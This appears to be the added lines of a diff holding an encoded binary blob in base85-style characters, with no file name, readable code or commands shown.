+;DSl4DGi~X)21Vi5ZfBd)N*t&j(g6E2bIw=RY>e8whg2oozyChrCdl>LsaKoB7>sB+f{-BmD+QHvF0kW38ex|DxGyu7D!Li$w_+gwavL=&RWXKj4>}g1
+JW6h$0PVHb|l;1G91$VlmvIfy~JJg*NSc+U^k|T9&;YEYS;iTwk(nP7Fz{*aru!vhSIvsY043piep(Lv_3jJ*u<2GCQL}kWwO_2D48Z!xvJ*nGy~b?ys
+4s|N|B;!RrF`K!6(JDJd$%NwWaW(0#xamC_pK9<OErHM{>Pvej8NI8C!M|q4Heim2@vP#&PNLP9kcEU=)5-1SPX9W3?p{!ZLD}rICb$SV;t9bJ$Ury>1
+f|{qO}1Ct#VPSY~$=Q-QrXC;kisNWW6}s3p>)tA~>~Xec)u`HIDG&V-8gw5}?T>!<_O#t$u6d!th}+{zqLCi{I7a4?6GQtgh+X7wuSa8x&S{j?HRm&5%
+k#8Ko+V}4Gz?ME991Owm1cE+8bX;9=zPMFeqAcn(r%3iauKnu;~%Cphv1TMsCWTPukXYn257{t57lV5~sWoIpmO1G)%3crk%AYtRXW;0H7)N%$R7h|c_
+!M1d?D$6CA;ZOmIWjl$o$F`ovOd;!#LOislw)B|s)u+j3J@v<E@Gpxjzk+s={1F$Vn2&a4Ylqt>o1#pIi8u&gfZ&kNTSG0j1vw3O%<&?y{t3qDm7@q8u
+@pq7!FrH_d;_&iu0H|8lq2!v%w~7(jZV-~?T~3kQ|2)~bWi+QLgkqAB_`)v;aH|+Q;taKe2u|wEITU02|MVj%C%h_4q+hIBuf@IC~D8z+prBcS6<GV&W
+UZHS-VM}Ri-EhV4fnFk!Ua=;x%N;&19NJO6rJs67+&b^Dr~{VzyN8*tsrF)sLA~b{_T2xFU@f_q9|zsTT+=rSSLUfg~j^iGJ^i{{SYdg=xnWF>pydo@2
+Vuohr~*oRDgjt_{b)TP^>%iHA`EtLaq_iJX3M^2Xk?5H?CRfQj5_FQ=8uib2cPh3p~3`k|@JP_4;{C)ZiXAkNb%byiEt2EyfZpoH>9VZyG-*%bh@Ju+V
+~xvNEipXoLkbui2ULMS=%(ps<TC<@9P#dZY}M$1-SsyVx<on2INI`Q=;^=r+Ry92N$+XwvEcG+{Fa98aXiJ`&aD=LWqsYKuu8+|QtRf}or#W7M?5vIJV
+rH3jpYzfEVI((%i2}htOZ61&{5hwTHdZ?zP&VQz#Ss$|f-gJ3ZE^)w!f(+Oigp=;htB~a}rG5*}l({q;;7|&vm>KNZNJdU|Ni7ulAPS45c7q2{fNUC57
+$K*(&xa6&?fPR%G^qhF^&Cmda~AW%X_kSWZ!7t3Oj$1`hx()tccvWIR4k;z*kKw%W2R>FWR|q&w!B}FI}4NKJd0txs8ZW<<WkOf7@Z@6(VbN}Q%uZ)F`
+O*Lq_J~#PoP`zkkrQ~&D!9BE<Fc6U-qo07+kcB>g||Me)^CVM<9tI$IY~4nvK%_ln+3BXBl&vO3nxAV~)m@9LIcmQx_rLOuFl)pyM{#nm3I%VZvogUu;
+q#3MW!6IT~$Nk(SVMj!Zv?mx2$;s4qElD7?3dHp@Kki?R4laGO(@?5}oa@|e8!+Y?Y{f-L3_)MBP%D6T9*HqaR+*o&+el>D&gn0ZrI$KxG8FDleG;XSr
+}tmdyh1*2`(Co@V)PS*BP^fZEL=mNI4l!UU5rcxQ$wqP!)Kv!mqqBFe(J;%E$@n{%$(2H!JCHPhQU`VN?qTo=DDLvVcB4NlT7n-cFxsEWCk|HjsrLsL3
+@}a}gZIi$yIkPf_#28`#5mhOzVYn@d-8U<VoA@#CPL~VM1W9}hvx5<u@k~MkGZDHrhg7Q!bESGek2d!AG9LLU(4+#e_7?4OckJ(MmZE4(-|e==fh_5Hk
+a9Q;^iokMCkl^kGILdYVPfXacCtPYzTZUDwpEAaS?atwr3QGWc5!z=zbGPHJBtrmFey_F;cG!c+XgRf!$Bd~tD5g)mL#p~9i)4Q4mjn2@gmMsp^T!kQT
+ooXrt%!r{m%QB`ifpKIlC!vT%0^yX^h*KIMS0{^pit70b(`>vB+zPmk3LI$}ZNhzcVHUm}$!H|1dwZ^G_xfI%bs(t;HFxIt#~6jucm_kqt!VlRaNo#Ws
+qQU8^|{uc#;<v3%JgQaClmi}$2YU+YYS&{WE1ZZVFi7G<9i<dV^#Nao(=jobnYiVEzs&-6qiN>ST#T#A~LNF)yHfhQFrm1p;QVlS+rt3Ozeu@u9Q;9sf
+&II=0jm(4D-Ll!>;bxnn*gpXRbSLgf)bpuSS6swW`-c30Am}13UIa`%&$&W_~AR`g@DUJxu1y;c(=a48+(WV<RQx$oNn)kG?qNT9y^6#0JIGgNc*RUd4
+%2>y#<OHgOC(;>au?V%NJTxn^B^RCSHqPl45}VVo?G}rNxTf%>QD@5<dP<;H=3BYeCn{vKS}ZbHHwgA(IiB{@*y@#|-c&I_FMu&dwpTS(B2}82rI00b?
+A%zNx#h^D8t-yK^igUZUDtX+^2L6;ojj}qQd13$NXei;^Er7mZjPdo4wWtaP}17QR1vG$kT5T0%waWnmMnKDPqfG%L-<0#2{3w02RB<@k4R-chUXd>C~
+jj2np0DY`dKo%bK<egGDO|0+5*{Y=MX(7t_c-pH(0~POlCMK;ZtU%0>P>gS|!Elr)n`v<s^j*W!Nd$EeoC$KJi+Et3>pj`OXX+l{~xh+1X5%GVV<g5;<
+4Jy7Doi(O@^_0GFN$>vlCw2F{K`f;x7E{p<Y7h?+T`+`xzvXImwRcu$5E&U)YgyDDk`OYx;0ezd2z%1uxWk$>H7R|BJ4oM&pc1T!gmO4V1#e^QTUkOW&
+e+2uRsWG#Yn0ygT}f-JCT%8()u&XLZ+-P3r=E@HBD$SsW4DnqJY;yqC2OR3}{go!MxGiWqpasQGk=cveC-EfK)%~8^knq6R12p@HYR<$5D9_fAU#KQ2I
+h<cM?Sx#bGPOr0E(fdJ=bg=EHERzEQyNW`kA&;{&;FRdK_9`n>g>LkFaXYpjD{Zq)2|gxUvwQU*tJ|coQ7E>MNUD}SkXU%BSQzcOTl1iwQ2>~N=9oi3h
+kA&6%GysE%R!A*dCo;`am1FP-3~`dM0!RXg4;8*oIu>|u}n2w6za0ct&&zq#u3u8_Zk{kJjZn60cKcdBweL2>lGWdoJ6J2+;uFF0|vRMIb~bVOf=@84Y
+0YM&_rRj>X5LF{VAj`N;szH@J&!+JW(+UcQyi+CHovw);?O~80`Mm7qM%LgLG3M&d$l<P+UiIzYV_0q&4qZM!{Co_STPbz6xp(Se)jN^adx<8Ed${`#~
+TPMNZj7_&!w<O0h2tp^TLIOu!qXIw$wqYKe8-naO>Sjx8`UrjxBb)pml@8^5<%|8;r6N^J2$yDX*Y_jlFaOfrBR^K2Xn&q^@Z*m=84Ho*d2v~D(A7PWD
+XX10l$gh{<BU_3d9j?SetVUu{6$jz2tW=<lrtL{<bUSn@nw_->jeT4cT8pjBet!j+|smqut!07faPCs{4mD3DtRywHo;mv0ic#$n+7|+Q(e#v;Kv1S~!
+NManQX#~%OpiK_IvF!`heMw+WRhWsUx9l4ogmwkiu^fHB8D??Q=3vpTJpPcXCS!WW@j~LgaN7C14XvO`JLnQu@zgEwS%#%}bwxZ;K@HS%T9t?%o@pa*4
+Oh&>_c(l&g4cFw;m@gh&D(IXM2YU-M%tRg<)-c0=gT-<kp9>&n`C9go`{pjMaVGDI1&cc0W+5wN$EYlHqx?MFUy9do;T;`*%ztKxB}}9L$r)`Clj4k*)
+O^&T(X>G5X;)LQ^TY#K0}hfTCoxYHyI>D-WCnml(TKB#59VP$HjzFV74_%hHxs<G73pYkkb`uZKF~RR#e)&EIQ}5TphcJ0>FOtLU#!oTaTE%D^i(6CJZ
+tVU?%r84S2S|3NVYcoDxi~=*bK@7q_9(;tfa!@h0L<p6CQB6(Cf^h%g$tpiMA{DlFV1$I#TsQLf}Rk%z^CRH`ZTR@OMu8$<3Pud9tV8V>poa%7r9#Wwv
+rGLRFdz;wnFl5$KIIkMJlX6Y1i<p))J2Gu0y_#)?$SLc^UW?(r*OpD=Qm01k{Ue3HHX;6@pn3=E{dAW^oqLDDGPD8@D+2t9j(alC*C%c1M0^x==R^%ew
+zOIA~J=S|>yNq8Q4po+x2}RpefE6UVrk;{>HX)sFj#s-qs$oxONM`}*n=wmlUtMyvHQEQod+vx-vMCWo2e0Dwne&I<)SNEPR6FBC5w(ND0#;={Zwf8pk
+52WJBy@-@K?v=rWZ`^{P&J)|W?aVJe47o!%xW|K(IGkJXm6<>slKh;bCk9COvf{*&e%`*S2<^n%qcm1V^k1*$l0>-Ag8K{!>mnhb2#NC!bC>`@Gp!{A|
+BarSK$ot>ns`?O0dn)9=O^jxG@?aiO-XhR;FtTlOcf9B(WWpQJmzEv(dZFSsFRnnk@-RQ^I*B=E8rD`N=^Lf;r*54T)$FS9}vuZ^N!B2eCk3amE932)e
+1%G$Jr0VYiq=;{+c#A3zb4+T;2v+q;xqh6jzb=)b^TVTuv6I8evAUMPvhtM{!T+Tyr_Y~Ccr?~#68m57g{%%lgDt1h#{F&POyWj~(NtPRrR)0Rd1&!9-
+@8yG4E<=C&~Xb@11d2(Dz4pXH7Kq%eV{OuZ1%sAap<zgngz{LfyXaf={OZRhSi_MIhJwZ8M3=s!3R_rz}rxWiIN3Nb={;+p()|5fKK?UiG42jd(cTPoI
+?nO&;)0Z%pr#jtqT4>Co_X{m|^9kdxCIDn1ds##g`%N5`n|Zpa;fydb)Rrj0!wWgxL<l)=!$DGLc6-zPRqAyF{lWh*NFh?eev|#29QYZ~1PEf=Xepg%t
+LfO#xbx*kve_(im+ba5{D1y)J6jyzCD3uZyniTn9Qe=hzsCCvM}u>UH68LF25;jr^U^WWU?5Okrid46QzM1CHr;q+gcq{aaus@WERzMF%hpp{tdc;Xvu
+EFww=Qgrv8mIk7Hf-(dR0sKh8ss(K`$Y|h*N5jp-h<xn5;0a6paRqWwkavDJP#Z*LIWpGAY0SZPk{k9Iw$uHOriI2o11}5XbGbK?*(q2dztJ$O4LW+zy
+ImB~tN>;+V86Dqwh~D&B+V8Z<TWsyA583+^EN%rzqoO1~2mT}r(G!NX*jP(rb6Iy+PMV#~#qA*M~y1?<1t7V-BBTHjpDs#0mm`hHhoO0!F2kQg*Yy2)u
+kV?U(X=<QW^bgnjA=OjohcD3x^l6GlrexH|lOWj#CI24(q*kkn|?0GmsHEjT^x?Os@H8nk&xGseGtlAe<yHclyzUujCz(mWsmxC-7F{ilLZhA}>vF&sI
+3KodhsM%K~;RXnKp04{0;o-U~Umtnt!eA7Mc*}5!gFsP$9;1jaZ~ExOX`3O58@3Cwvz4AM#)U`BG|%n2HF!Szw(K`ohGlQe12ekh+HKS6>bSmsiQU`KZ
+bnatnYQs;3vGaf#>{QuUR;Q#uMuS^Tt=_P7Pg7*mT|dGkWCA1WEHlGYk+pC&6u5W9@BWi{?3HJ&heXcKM|Z?=#iO`dB;3O#0(*!Fq?0blUY!mLq&z;dM
+-EUN6fJfb*U^zQy<qsKieVT0t!k?;oQ}@4PU_k4l=o$Yh2r<E%9g(4b3N1Njg3AHw-f3qZq>=DTTITE-Zqkob-y2hU1}Tl(MG-i?VO?1Tz9<#F?l@IS}
+*=*{b-H?KBTJw#ICr&X>~?uXwHXDoY0yu(_Tt;jyn<xrr@X0FbWCioMLIVQc$#A^vRF$WiDppD#C&t2bNq5xzLZ*4SsO4OI9P#(OygRgJWW#)mZG@|*Y
+DqkMXfVAh5*4rV-PGua7FPmfKg!)dfA5nlKd$L9i*^i=9;feaTe`igD5nT9xrWkVV@{47&4z+V|SEkhX~8si)HK91v@saD*9O9UyP<ckw$m>Rh!Ph{q>
+5syRhCWjlZv3?QZ5J^KoTH;SGVQZ!vtWu@(-{zdYEJ8}BY76e3sy$BS&ZcQq%fqDHFy=3e;7pnAN?nNHRY6p{=#aZ0R{)Oc+0x(Ut*46NNIfkvE*mc(8
+^iXaJz&FFk|+VL5__S2w_C4YY|YQAS|UTtrml`*ypl<&b6<0&wIlKx@zRLaTwGC57K2>ckDzFH2^xa%a0Vi)>OIk=xOWTaE=^Li6O6>o+Nd7bHrqgdik
+0Ia*|-h@w;dA8yONJR?CjNul_RLemm{|=7RIv0tz(Q+IWdlBzs3??;U54lwsQ55kuQPtX1`5M9Boc$bjr!QDY4<Uk2yqocQ9^0U~#7s9Kzc+09!@3$|z
+A3Tu-I@u!I0;jV>DcdWFJ@y`w$zc;n(}NI?S}cyVeZecpED(jnGU5O~XhV6tK_V~%Cs9oVR@cv#1}?S+E}L5g9m9qzJoBOPx{P6f4?Ia8ao$T&psx8s6
+1MP|l8#FCZN*0!QC^;GP0MAI?c)(JYq^=jui-FCE?;p`uVKo{k(JLxq6v`kn<Euii8#I+RSaZC<e++_dd%%?G%_%b`_V-E6yDhA}zlyz0`YL-pj9YIKE
+`J!AzjjO%b2^Sx6ota>u&Ne2jstC2oq?_&dfEm$}T}}1`e?KDUf?|H0-5o`6%3R<Kbl(>WUk3D3&VIT&I&g#X<djU3T$OaQ0@|<XgPl_vUkR-?{#$4}j
+bM~ECi3?hu4hL4pBpz!*;<@~u+3?Tgk28foH44(AJ&iUAC{Ei@1!mO;dE*(mZNKTPmZE3bE&_Zo1n7TF^H0CJrZY5%>s2dCg!|b)t(e}>`9)^*?k>uK&
+o$r2?Huo4*!r*vcW-2!yI27QF#c{(eIcnWDzyV7}mwa4u_*B%xf`DhlJ6%A0nu!F=Wv@MTphqk%Tnnphm&*$qSt<Hue8Tr(z1pr&z}A@kIF!7V5Kpk!o
+2vXx_E%`!R)a6Z{`iL8%Y72YotJDN}_#1<BRT$>|O9N{8`~**1`;9+GW<_KF^5C01)8k;`UNWumi~V_mVR6z$OA94Ikn=O#dw5^#!AkHhhR7`E9VVX2!
+*ae2&1@`4(YEvz=GjH({{l3Hp2)Ie=>%8czf=^n<0qke`{DeXcCwy|sBj!%&oEILM#&cX!6NNmdDoC1wBDs&MM-b7$tH<)R4xtXR*n50M#32J9qgQ|L8
+F4s%xmx$%(%OxD?9RGN^Y?qq|H|q5?g{fb*%Ozrx<r06jT*}SGaZ2OqG+zkJ=Ie!Kx-wi&5$48+M3hoXeA;r;HNZ~502)-MlV$+5UUuXgZc@4m0;eoUw
+THt6T&xc64v^buG^JopG|?i!kaOMg5TIksx1fVewR8*Lj>?40D=?*aTXi8yRU;+bS$zBrlB)|S`$>*Sq}($$aB*17d~%=|Q#Dv#n!=rZM6eP*b#v~?sh
+)bI%s1$K#rq0>F`5oMz|QN~-wnaelY{~YHDpQ+8CwqiwJqL|IW3rzlaGecrt+>-2ZD>#4R=Pi`dTI(i$m%TRndv$8jQv!LF?8UHtgqoV|PJUrc`-1S>Y
+-EiUDFimo1-5c5-cYao;FNqt+YkmTKQjk#~k~pXcSKFcYzfFKGx(x<%lv8VvoIKWuqG9kXqlv$?E|sdnbj?v_J%=sF$jQ=~k&*cdun@a-wY-dj$f)e`F
+|BA_^JmXMUe8L}N9Cw39GG1X3CC?_vj8O+uuN15)&0M52&n3)aiNx$!@Ns<o(3qYhSeXuR=`uQ^5o_Urix|2<O&Pn|vs!djLrljxL*Qr&=xjSR>R7#Q&
+Q{60uSPqLlCM!4X=a93#!C=aC7@Em$l}Wn)p<}C<_+a&%zp6ua1lhc6O99hsUGPa{?r6Z`@GOV0BaC@S@u}Q&VI1wGxQiNJPAUj9Gg)^d=qWavPQ&R2l
+|2X3z{QMs@C2R1Y_6k!Xv611fj{Eco2KtfTxWV0r}%#<6yIKe<WP;-8<^67jzSp@I%Dd$4N1G0Qn^2yL2{_>u6kFp98;Z-7#YwpXYC}L4a)LuTC^oGcU
+eJs^}iTTI~;!?e<<^%G9>t%(x91@Cmdm4yS)pO?W_66dn#>BDZ!wlwe4H>WVYg_%8utVxp!TXYYu%7k67Yf!C2;?H<hJ@D-xkB$E0($bCiuzI|gQqgAn
+L1R6fU(G*~~P7c|W46-cayF?0VQ4N<b1UAF7!h?+Tay&9oYB(BKeQabB4xgamF4cAj$wrMHb0&j=YbM*Byf2k@OVkZrX_-VeWgxZ>t()UvmMNFXLd4?R
+6A_O>Fx5@d%o0N4`4<j`uVGE}>^A#{&G{j_5g`C>Xezf{&dIfQe7ehWxA?<Jt8@<uwSD@{uDPHb`r5+U`Q<mylFFiX4*bDL=1}%@Yv&PGAM8RdzD}?<z
+6~NBR+_rwvv)z>KGLlEf&nz~c4Y3#KMQm2Dr*7ogY$msKX~k#|>1(+_`)#R0=K~%J#!2P&bkJ^-Lgz_AJOufmRB0WE+H#y`QU;X^?#Eb%A$j!H3U;eHD
+QIPhisqWGm{mqwqnw6=Lpvx5V1j00>o%QuNIlc6x57WZJy=j7$!w8QXG!&m!KX~}nA5<)AIc$ggW6c~!&=VIrF)_&HXlbbNg}(Ym1G0<EG9UXWK(IdSb
+VOkY9(DeiOEvj4{n6|MmD1;QJ+;S?xuv=WnL0jiEF_5yPAl}p`fzdL=RdD3Xch}sIPpI2f91Mj>2k7@+F$xy+hY)`{EW>+I;pTx*C;A4jqth!ZjgY*yf
+X(oN9H)ndf%ZW7x7*gc(N}csqTSGwS&1u08`7Ys}e%O0@t%avNZ=a?+V(R#89ef_+!zQMaU$ChrUFk13_BMnWUyHzUegN;^fMRF{zm%Ao+49O^Dw>$y<
+}1Tkp@@*+@;jiWnpnXCQX-sJAgjbw|-<WR4nnW=!WEr!g^>X+g-lg(#{Q+NuuOHmxbd3$sW!2yp|dcvE(Vg1>^@jdJCl#f{-^M&8Ge%OQm?t0I=e(w6j
+`@dp+`5%4zdY4DMWPRCNp0NIhpM3WE3D0=;`pNfr()yhHJafJEwJ%(s`pW08ubE%8{?^OCc73=0h3hlx7p#AN|L3g#_19mv?yq{}`fa!V{`#2DzGMCT-
+~aCQ0k8Y|^&XEb>+2u-_t$^-fakBj^w@7--}<!gTEFhj&t0GS)vsLd@j35({^=(?;{5I3^69r8^Uv>g>s~*6pIh(vFW>Zr|8kGJ-};*m{Kz-H=kIT~Ui
+Z8^-}>37);G-0eEzNf{)+c|<NJJMyY-gm^;=K-h4;L5&zJrmxBllBJm8M{zV!`{{kZcRU-R>yck4SJ|2emw^z!dtKl9FaU4Q=vUUutS-t80KaOXdK>#Z
+j}`90qF#7}v_t=He<F6+Ji?W@;^-1Cj=hur5s+`8Mnf9d}J@Xdea4PSfzZ@Tqy<9^56|L`Yn*}OqxhY=bIz_EcB{ZqEk8^sLvZPT7L<*WnZyo%6HSuPZ
+rd)t84uL`1rk0<X$zXY+v9;bb-*LjSHg59Q+DXXpRn<I_KnuCGGfSf$x=y9iqUuq6*im&M)2~fG6hqYg~_^7SHKW3iA>9#%zlc7l~N*Hek;p{dN?H9Uj
+;twHm5g<Bn7XgtPLA-6dl+4FPap$78&CX<ubnlIV*cQ%gGwIK%Ahb11{I=SR)nvQPvr=NSqe?g6|7kzOMi@g74_qcl|B_MKve64u_N~SWZjpe+-)xSS0
+iV+}lyE{wgfp#3YBQvnj@T7)QA#YSNNV=F6vt>=C%^?D_Iasbm~n?M$r>MIOI>q7j7_^ms??~La=afAQBgo(%$<neWA00Xldwe6IOSluaxinVZKz$fq?
+=R349_=aoL4hbrR~skaWGW7=~=8}cI4z_N9EDM|NHf#JSKBbHwXfTPRu<Z_JtiXT-Eww>;e6bMW&9>1;#;DbRyr#M%kRm3a9xBJEFBqvoX2ZwZ1czs40
+`NpEN<zS}8Xd1ufc;bGBJ8wIx)i(NU|2A@D>SQT+I2J3R138AQX<rc6-t{=~-J#39}kPE7(x1Okkej0?4K6CC*lN&1*B8&Q=kJ&rU3zQWMPPhP;Xoav;
+xmpo)@W>dR1;Rrn%S9e3zgF%}`^$D0c&_|g!q9`=&Y13SZm3j_*g7vnXEZuWEuMjCy6`lW7NjYJW31bE%wVWutZIw^j94u)Wk{)lSK!#P>k0ER39CFVu
+o3XdlE!xr1L<K}+_GXolhkWP|@l}dN4XWc*RlXd299}>6bS`0o0M2uht`1XF?0f?}#r80@$l4GS8A+?HI5{v9NC86-;VJbC8=J^DBbm0nl-8<iO?B64v
+jKim1CT5#-l96+!o+N=b~Md=2Q7wB=&nhw;B0KwQHa}>650%P!RElY6mc>yKz2M9>@J*pT!LDz;7iFE8{+o>O(r|m9I!)^?v+F=EYfBilmxXDhUX&3=h
+O?mVlw0kY``gH*<q@M<=|3UXr!*onSjo=@sKpQ&4OK5IAV_7$%?z0^j0O5J8q8bo*efSK~Fo0n8D?W^Y4rt=XuZo4_z$YPzEgWZ!)70>s*L`BA}*;&>B
+wV_Ewuka|V&kj4BGmf8yj&@El<8DgM2uV%Ck5)>~>iq7`y=+9|?48=2~rp1_1nv-M)obcS__a}+<r1WRl$(p|*;v16pcAW6+`VySfdbUAIX$YMp8slq^
+6W`~R?SgL&N7O_s;8qrVnf~MGFUD72rjnRq4&By~46QoCtdJj#5)gEdJCY8alT5&89MYFMjcD4BmP&{9@O)x`Y<B|#{xEIv-T8c1YUocD;dE02}R|Mw3
+7F%U%Ia>Op@bi$0Q~1HjrW+OBm_0FH5ZO3Udz_Be4Jyn-Qg+dSrCWwR_ZhWsZXH$MaMqCoZAr0RTD@YbCd>igc2)PEOSN?+U+6pO4mqP}Y^}`Mo2ny@D
+FNtA>o#|_;kcBu7-lMom2JC*t-8{v>JGs{LF;a-I{!Iu1t>8@sba~$qQg9>WK3xb^|y`5oG|Y=zf)c(23x9o=%8p|Hd(YlLz^|=p<Up|LSl>{Lxv@2%-
+kZ>=#HK1$yi4YhEkvXr-$O{SV<#~R&hWR+iuAJE|uQUFhbm+_$NB!_I8<RbKbH&JO{+lf~r8DJx>5@NV;4I@_Pr+RpVJ{B85@P)uve*#)U<OYf^_h1Hn
+opixJTGE2YnBdNO&5oNHLj<A8$b;ozpm8FGC#*r6Lr$I`z>INT|>p)}7hADwDD5Otd_J!KeS%i>ZhePXftad%V_L53gsC*r})A#IF+$$~>GDFNcdwPw+
+W>b@Ei`9YN#??`CF#hvJ_P)Qq5qZ|@0c3uP8GWV)vxY)wwa24aHH<*(gVa)gJ^f0S+_D8gy_iMO@m92o(mtGF|$6+%tUlGYRL~P^j_C+#g(jnv7c=}TW
+GENDwqd-Z5u^5AjK~zu50=o>l84+)DN&=NwKVV3~isp3q{Su2BAwYO7>SR4VRyLSSsVI>o#({YP+>8herLY#Yghncxa2__Y<t;4Se33k0^h&8PXKT!QH
+DsBHt(b2N4|PneYx0$6^hxMa#Bf3FsjwI^?qhaJFNq4oR$t8Wb_J=iA(zXQeWyT5**1lDaph!_ws;dA#e&6Jkh~yI-x4v$Q51)S2?cP&5k{t>N^^TB4m
+@V^?MWsV!m{;%b~(T>WEW|r24sqryjF|jV71WA-57p5)^1lROthPhL7-Ly@X$~#`#${t{^#cAkG}8c*B`(4t@RJS^wsNse$IESKlFs(T7T;|U$egTgUb
+1_pZsI%mp$<F*MIx--@HEaW#6*?@xS@-^POM!?&n|pk-on7YhJhh&_iCluD|-L>vQk>9qZqJ>o=|+{PZ`jcl+qSSbzI<?^wU!-v9Ud&42gR>wVt;yVoE
+5p4Y73^{J=x<38et*1!DHA6dWX-~Frg@yqwE54-m-t$+2Y&tC8Sw_m$H@zZ~9{hdGkj`gd4D!%uperSEpZ++j|e&Wa0@BOORumAe5{L*@#x4nM-)|bCx
+z5exAt@k>8&-&h<`J3x6{>pIvq=&zK{e?%pc)i}`U#|b;P2ahG#j`%({5${RdF#V|{~hbY|NF154}Qio))&9z_3H<}$2->V{`g0&_j=N^*Dv^<x2!Mvf
+tQ*S|DE^$#y9-Kk9gJj;ct5S`qOv+*z?_A`$gyP|A`Mef9QwYX?^J9-?o17Z+_VMm!JK-^Y?w`_naU7d(S_=|8wp*|HjLoa{lc9@QCxLzU9Zx-}#`so|
+oTy>-vcA{>V3e_+R_A^QYeZL(g}*?_<s%^|T*7|Bv^4;`xj3`@;2?{`jNLFMZ{IyW^f8^vv^}-up+^d))i~E$m!Fb-BtrKC|ZXR;4NZP%lBFQK({2Y{h
+HNye&#p6j2n!Li(i%9FapUiYN-=<%32cDG|k}*fgn%@ft(|l6RX#L@S0?3R<x!HWX~VD?#V7W?aADGuy8vkeqXJ_I_v2tXb=M{?GsN^y4!xe&u-Gqdsu
+_hfA+Ge)O)lA0PX|FCKsX*Uvk9&%buZ8@~Lo;jYt-$B#}oA3t&DHOJSzF&%H{Z#v%hgX@kze%Et`Z(eo9@fQz%<@Co_{K@ePFMj56{LY7lH+`-;zUEJF
+KmG1~kGuN%Ti$$p@v}d2{LGE-J^t<y*Bu{x*Z&>=sk!s`tM*kF{$=>^@x70|_4K3fy!6Nl&@xSLLW8_u!{ExCbGRE+Q)4vfL;$YVJJ7gh-)6m3J9YMJ8
+k;UfK6l%$Bc4thj(KB7QJJVINQB;E|K+Vf9%_Jm7fBAmj_<>geAA&X>qtut)_4@BU;_tLk=0u{=0fVwv2k!bl*S?HN~Z%Eo^B~P)(9LmKOnrzxPVr77M
+OBo;cb!E2hD|oA*g@iRk)`j$i|nx?6M*d5D7ND)XL^d&qH}LsqRZ-0wq9EpL2}<!eRwi0p??4%wn)Ba`q=6sxLU+Rt8GsdZ(ZI--u@4l(K=!H({KVgT3
+hRrEGrz)%OP}4zw6h02vvU>zfxH9LrZ?7FV8J-|YOw7Ut*%-A%a>NH>xf-Fjj3gTN;bDN*0GC&0<Mn+b>TjDyJ(8KMTeX{!s~IcAS+h^SIH!#@#t5rR$
+cb8qoJZ;+~TsY~jZn$3V}ji`E<GuCs~houy9tTKkG-5U0r*b+69#;A?1C)#4G&g414wAJ;sEY>aLVC8ryr%KPLiYLdZLN&Y1rMkyBBaL$k1Nf!QA_A5Z
+6pN5?vc-SX2V-VadsCYtgoT>%<6P5HN#=L<0$vI)Eed(8I#M_qGej+wNw1F~lBlk$_PoYTKPb3jRfK*p`8NaxhgD~DreDL6YGQ0Rr>*N-jaTTQFpR@*C
+vt`C{-xP8{hng98QZQ=Esd*+HXU{O7f=$6s{@5EW@+W-fZ+C9Ig`rD9wEt=&TU%2lk)_%Z7lB}ZFs5dOOcf)mq9gkrS>fy(tK!jLGEQ8tn4l2{0ELLFX
+04Db}B{w*v<$QOYKtrFjC}~tfz_rmXPndvIf@!!Lp5shwNP3&>2IdAY;%DXB7sG^=~o~D=gF;KdigBpx!kD)h^rI&IcUZ{tiZbQuw&-tQG&Co}>-i&W2
+n}K&+MRtU;&|ICCj|Tm7CC&q$EmwkcKp6yF4e2tB$XEbLFqfnB4XpbzaZBHbeOsR6xx6z!$FUerY|M&H2P)y7aUu{&3#C_>-eV1z{s4ci$3k>%ST^nL|
++s``5L7B8geC_{!Ml)DJ`DJ%ED{#Q!HvUHFvr0Gz0=eeoIP8<P6iK%YF{NbO7o^R9G!)Q}wE)XKZY^u*H4h){v<3?dVsxVj>qh8>xBSz=)7*o+~rXHWE
+nK!8IU|`N=|1Ud1=cueQ^H&4aP=@Xtq#U|!W%x_0FPkxz8hFv}&OHE;G{!`jFz}pqmlKvkRe6e~r9`Q<_68I%LzAGceFy!7oQko0-URo)9W&Fw8q*A)f
+B490ZV;mp+%?L>&P(JCFP*dWo|%Kw$8tI@)|Vj=M2(NAqUzjuQRkI%aXa8F4~o!jqXWB*4p`==x=^~XnH;-zT>8fN-*RAe%q?n??hi{)q0EH|Udt?%fm
+@hts{w$>m{@6ifl;!-QrW=XL!QgqPSKCHb!tG3x}~0`ej3}-^^efx6Hx1nb^`_ASek3z$F}Xq_7GKnOv_hEQb}oPSk3ME$tD3+2%^jph+uD~cnYq|X^9
+0VGgE2tzP}Rz#t<_&G)s@La)WdhP_o5}h2m3nqM)T0l*|HVQ(EX5iU5EQ7BispYW>3r9aYpUXrPUBg{V*gbQ6LmqXKm`&}OBP+-NvciczENXMrmY4h}e
+6;L5%SyB2=8B7yLzZ=6{fX;T`9o{1r+al1fBcCc0%fLc3upn|Jq1BX?KM)~HT=_YB=$|_0oz;o>RefGs=GZHyKy-3%-F|sCTpe*?YRX0`AXwVLGf9+R0
+<H8ur`Q~z?A$(X%TDgp>?G}~F9OJN3Kup{aB4?|LToF~DN&SSu8CnQbVsNc;VmR12OpmNM&?D~}2%?bH^J-xa=mDEMtS}o;`c^gjc1|q>AZ=(KW9Gj`^
+!p-mY4SLWuk~U8SF^0QCh~jJo*Y-nGV+yg)RQIiBPdlmEbt=Y4+>u-%!6oeMlzGCM#Vr~yhs&dhe#oyNf=zZr~$t`mh~rD!f&jBVLj_)z%s`MRPU^ETJ
+U#ECtWIlQl(7DE%MB{pZl;m5c9^R4d7_jze@}GU;sK-4|5~ao`Pqh9H)-FlL((|ELqlI5~-`)olHGN9l{61V3`qm`8}>ye$o~pkzwMJBKl7QTrVU=Or{
+(y$MupcBSTxf#Phm!ZeE}BLWO@lh@;R-G0#ze8hJcPrqk}*?QPx+1g{}m`xMvnoL@}^cFK%&r3lJc>pii-RP=L+SiM7*RhW9mA#e6L1|_B0cY!(Ji&02
+$s=C!^mpW!$nu}KT&TeHA*v2nJy2F!A)g-09m0VwkiULD2s3=W6mk#RCG{L24%fSjXGvdS2=tk8M0uB43sX4q+^`x<FgCpC7NnDzk9aU=WJ9d^<3bYnZ
+%}5!)j-}`-2Vuw5qZ}X8*mE<O>nO=T1lG0!{A#z<O!_IS^$W}7R$Ne@bk8c7Jc~L)BfX^hE!vQ39jozNGQMrI4`D`!d?Lcir5dsQACdu}ik+#yQxiEz@
+-QR@lk8hwvp!q>2FppoSh%ex<CTo9f`p(|x@1RZ6F^Fi^4s7#*2ZK3*|;oITMA@c&a5i?2z7-bUH<rh_j~y<<pDB-?R7M&>dvwWLXHq5l>W4f3)^r+$;
+P9W{bi259Oje``<<avA-U7M3hUi4VQ^X#r$U&NDfo7ED_#Jv%TaWONlP5M9qUSpTiT{Qu+K@G0Zv;`@{OEZgFq!KjovV{X0BH#lXXy{ET5Y&`(=Cf6=o
